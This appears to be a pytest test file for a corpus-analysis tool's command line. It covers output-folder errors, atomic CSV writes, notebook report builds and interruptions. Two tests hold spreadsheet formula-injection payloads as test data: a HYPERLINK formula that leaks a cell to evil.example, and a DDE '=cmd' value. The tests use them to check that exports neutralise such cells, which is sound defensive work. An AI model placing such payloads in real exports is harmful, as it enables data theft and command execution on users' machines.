"""Faults at the command line: bad --out, formula cells, hand coding, failed and interrupted reports."""

import os
import shutil
import signal
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import nbformat
import pandas as pd
import pytest

from analysis import config
from analysis.export import atomic_write, neutralise_formulas, write_csv
from analysis.report import at_once, build_reports
from tests.conftest import TINY

PROJECT = Path(__file__).resolve().parents[1]


def run(*args, **kwargs):
    return subprocess.run([sys.executable, "-m", "analysis", *map(str, args)],
                          capture_output=True, text=True, timeout=600, **kwargs)


def _notebooks(folder: Path, cells: dict[str, list[str]]) -> Path:
    """Write small notebooks (stem -> code cells) after a heading and a summary paragraph."""
    folder.mkdir(parents=True, exist_ok=True)
    for stem, sources in cells.items():
        nb = nbformat.v4.new_notebook()
        nb.cells = [nbformat.v4.new_markdown_cell(f"# Notebook {stem}\n\nWhat {stem} found.")]
        nb.cells += [nbformat.v4.new_code_cell(source) for source in sources]
        nbformat.write(nb, folder / f"{stem}.ipynb")
    return folder


@pytest.mark.parametrize("where", ["a file", "under a file", "inside the corpus", "inside seeds"])
def test_a_bad_out_folder_is_one_line_and_writes_nothing(tmp_path, make_corpus, where):
    corpus = make_corpus({"a.txt": "Title\n\nOne sentence here. Another one.\n"})
    afile = tmp_path / "taken"
    afile.write_text("x")
    out = {"a file": afile, "under a file": afile / "sub", "inside the corpus": corpus / "out",
           "inside seeds": config.SEEDS_DIR / "out"}[where]
    before = sorted(p.name for p in corpus.iterdir())
    result = run("tables", "--corpus", corpus, "--out", out)
    assert result.returncode == 2
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"error: --out {out}:"), result.stderr
    assert sorted(p.name for p in corpus.iterdir()) == before
    assert not (config.SEEDS_DIR / "out").exists()


def test_formula_like_cells_are_neutralised_but_numbers_kept():
    df = pd.DataFrame({"title": ['=HYPERLINK("http://evil.example/?x="&A1,"x")', "+0.12 [0.1, 0.2]",
                                 "-cmd", "@SUM(A1)", "plain", "\tTAB"],
                       "value": [-1.5, 2.0, 0.0, 3.0, 4.0, 5.0]})
    out = neutralise_formulas(df)
    assert out["title"].tolist() == ["'" + df["title"][0], "'+0.12 [0.1, 0.2]", "'-cmd",
                                     "'@SUM(A1)", "plain", "'\tTAB"]
    assert out["value"].tolist() == [-1.5, 2.0, 0.0, 3.0, 4.0, 5.0]


def test_a_title_that_is_a_formula_is_written_neutralised(tmp_path, make_corpus):
    corpus = make_corpus({
        "a.txt": "One sentence here about the war. Another one.\n",
        "metadata.csv": 'file,title,outlet\na.txt,"=cmd|\' /C calc\'!A0",=EVIL()\n'})
    result = run("tables", "--corpus", corpus, "--out", tmp_path / "out")
    assert result.returncode == 0, result.stderr
    documents = pd.read_csv(tmp_path / "out" / "documents.csv", keep_default_na=False)
    assert documents["title"].tolist() == ["'=cmd|' /C calc'!A0"]
    assert documents["outlet"].tolist() == ["'=EVIL()"]


def test_writes_are_atomic_and_leave_no_temporary_file(tmp_path):
    path = tmp_path / "t.csv"
    write_csv(pd.DataFrame({"a": [1]}), path)

    def half_then_fail(temporary):
        temporary.write_text("a\n2")
        raise OSError(28, "No space left on device")

    with pytest.raises(OSError):
        atomic_write(path, half_then_fail)
    assert [p.name for p in tmp_path.iterdir()] == ["t.csv"]
    assert path.read_text() == "a\n1\n"


def test_a_coded_frame_validation_sheet_is_never_overwritten(tmp_path):
    out = tmp_path / "out"
    assert run("tables", "--corpus", TINY, "--out", out).returncode == 0
    sheet = pd.read_csv(out / "frame_validation.csv", keep_default_na=False, dtype=str)
    coder = [c for c in sheet.columns if c.startswith("coder_")]
    assert coder, sheet.columns
    sheet.loc[0, coder[0]] = "yes"
    sheet.to_csv(out / "frame_validation.csv", index=False)
    coded = (out / "frame_validation.csv").read_bytes()
    result = run("tables", "--corpus", TINY, "--out", out)
    assert result.returncode == 0
    assert (out / "frame_validation.csv").read_bytes() == coded
    assert (out / "frame_validation.new.csv").exists()
    assert "frame_validation.csv has hand coding" in result.stderr


def test_an_unexpected_failure_is_one_line_with_the_traceback_in_the_log(tmp_path):
    out = tmp_path / "out"
    script = textwrap.dedent(f"""
        import sys
        import analysis.pipeline as p
        def broken(*args, **kwargs):
            raise RuntimeError("something inside broke")
        p.write_tables = broken
        from analysis.__main__ import main
        sys.exit(main(["tables", "--corpus", {str(TINY)!r}, "--out", {str(out)!r}]))
    """)
    result = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True,
                            timeout=600)
    assert result.returncode == 1
    errors = [line for line in result.stderr.splitlines() if line.startswith("error:")]
    assert errors == [f"error: tables failed: RuntimeError: something inside broke "
                      f"(details in {out / 'log' / 'tables.log'})"]
    assert "Traceback" not in result.stderr
    assert "Traceback" in (out / "log" / "tables.log").read_text()


def test_a_failing_notebook_is_listed_and_the_others_built(tmp_path, monkeypatch):
    monkeypatch.setattr(config, "NOTEBOOKS_DIR", _notebooks(tmp_path / "nb", {
        "01-good": ["print(1 + 1)"], "02-bad": ["raise ValueError('no dates in this corpus')"],
        "03-good": ["print(2)"]}))
    out = tmp_path / "reports"
    build = build_reports(TINY, out)
    assert list(build.failures) == ["02-bad"]
    reason = build.failures["02-bad"][0]
    assert reason == "02-bad.ipynb: a cell failed (ValueError: no dates in this corpus)"
    detail = build.failures["02-bad"][1]
    assert "ValueError" in detail and "\x1b[" not in detail  # the log is plain text
    names = sorted(p.name for p in out.iterdir())
    assert names == [".summaries.json", "01-good-with-code.html", "01-good.html", "03-good-with-code.html",
                     "03-good.html", "explorer.html", "index.html"]
    index = (out / "index.html").read_text()
    assert "Notebook 02-bad" in index and "not built" in index and "no dates in this corpus" in index


def test_one_notebook_rebuilt_keeps_the_others_in_the_index(tmp_path, monkeypatch):
    monkeypatch.setattr(config, "NOTEBOOKS_DIR", _notebooks(tmp_path / "nb", {
        "01-a": ["print('a')"], "02-b": ["print('b')"]}))
    out = tmp_path / "reports"
    build_reports(TINY, out)
    first = (out / "01-a.html").read_bytes()
    build_reports(TINY, out, notebooks=["02-b"])
    index = (out / "index.html").read_text()
    assert "01-a.html" in index and "02-b.html" in index
    assert (out / "01-a.html").read_bytes() == first


def test_notebooks_run_side_by_side_one_kernel_each(tmp_path, monkeypatch):
    # 01 waits for a file that only 02 writes: one after the other, 01 would time out
    flag = tmp_path / "02-started"
    monkeypatch.setenv("ANALYSIS_WORKERS", "2")
    monkeypatch.setattr(config, "NOTEBOOKS_DIR", _notebooks(tmp_path / "nb", {
        "01-waits": [f"import time\nfrom pathlib import Path\nflag = Path({str(flag)!r})\n"
                     "for _ in range(600):\n    if flag.exists():\n        break\n"
                     "    time.sleep(0.1)\nassert flag.exists()"],
        "02-writes": [f"from pathlib import Path\nPath({str(flag)!r}).write_text('x')"]}))
    build = build_reports(TINY, tmp_path / "reports", timeout=30)
    assert build.failures == {}
    assert list(build.seconds) == ["01-waits", "02-writes"]
    index = (tmp_path / "reports" / "index.html").read_text()
    assert index.index("01-waits.html") < index.index("02-writes.html")


def test_one_worker_runs_one_notebook_at_a_time(monkeypatch):
    monkeypatch.setenv("ANALYSIS_WORKERS", "1")
    assert at_once(5) == 1
    monkeypatch.setenv("ANALYSIS_WORKERS", "4")
    assert (at_once(5), at_once(3)) == (4, 3)


def test_a_cell_timeout_is_one_line(tmp_path, monkeypatch):
    monkeypatch.setattr(config, "NOTEBOOKS_DIR", _notebooks(tmp_path / "nb", {
        "01-slow": ["import time\ntime.sleep(30)"]}))
    build = build_reports(TINY, tmp_path / "reports", timeout=2)
    assert build.failures["01-slow"][0] == ("01-slow.ipynb: a cell ran longer than 2 s "
                                           "(raise --timeout)")


@pytest.mark.parametrize("signum, code", [(signal.SIGINT, 130), (signal.SIGTERM, 143)])
def test_an_interrupted_report_leaves_the_previous_report(tmp_path, signum, code):
    notebooks = _notebooks(tmp_path / "nb", {"01-quick": ["print('q')"],
                                              "02-slow": ["import time\ntime.sleep(120)"]})
    out = tmp_path / "reports"
    out.mkdir()
    (out / "index.html").write_text("previous report")
    script = textwrap.dedent(f"""
        import sys
        from pathlib import Path
        from analysis import config
        config.NOTEBOOKS_DIR = Path({str(notebooks)!r})
        from analysis.__main__ import main
        sys.exit(main(["report", "--corpus", {str(TINY)!r}, "--out", {str(out)!r}]))
    """)
    proc = subprocess.Popen([sys.executable, "-c", script], stderr=subprocess.PIPE, text=True)
    seen = []
    for line in proc.stderr:
        seen.append(line)
        if "report: running 02-slow" in line:
            break
    time.sleep(3)  # the slow cell has started
    proc.send_signal(signum)
    rest = proc.stderr.read()
    proc.wait(timeout=120)
    assert proc.returncode == code, "".join(seen) + rest
    assert "Traceback" not in rest
    assert rest.strip().splitlines()[-1].startswith(("interrupted:", "terminated:"))
    assert (out / "index.html").read_text() == "previous report"
    assert sorted(p.name for p in out.iterdir()) == ["index.html"]


def test_a_report_on_another_corpus_leaves_the_checkout_clean(tmp_path):
    if not (PROJECT / ".git").exists():
        pytest.skip("not a git checkout")
    corpus = tmp_path / f"mine-{tmp_path.name}"
    corpus.mkdir()
    (corpus / "a.txt").write_text("Title\n\nOne sentence about NATO. Another one here.\n")

    def status():
        return subprocess.run(["git", "status", "--porcelain", "--untracked-files=all"],
                              cwd=PROJECT, capture_output=True, text=True).stdout

    before = status()
    env = {k: v for k, v in os.environ.items() if k != config.OUTPUT_ENV}
    try:
        result = run("tables", "--corpus", corpus, cwd=tmp_path, env=env)
        assert result.returncode == 0, result.stderr
        assert (config.OUTPUT_DIR / corpus.name / "tables" / "documents.csv").exists()
        assert status() == before
    finally:
        shutil.rmtree(config.OUTPUT_DIR / corpus.name, ignore_errors=True)


def test_follow_terms_reach_the_notebooks_parameters(tmp_path, monkeypatch):
    from analysis.__main__ import main
    folder = _notebooks(tmp_path / "nb", {"01-f": ["print('following', follow_terms)"]})
    nb = nbformat.read(folder / "01-f.ipynb", as_version=4)
    nb.cells.insert(1, nbformat.v4.new_code_cell("follow_terms = []", metadata={"tags": ["parameters"]}))
    nbformat.write(nb, folder / "01-f.ipynb")
    monkeypatch.setattr(config, "NOTEBOOKS_DIR", folder)
    out = tmp_path / "reports"
    assert main(["report", "--corpus", str(TINY), "--out", str(out), "--follow", "nato",
                 "--follow", "grain deal"]) == 0
    assert "following [&#x27;nato&#x27;, &#x27;grain deal&#x27;]" in (out / "01-f.html").read_text() \
        or "following ['nato', 'grain deal']" in (out / "01-f.html").read_text()
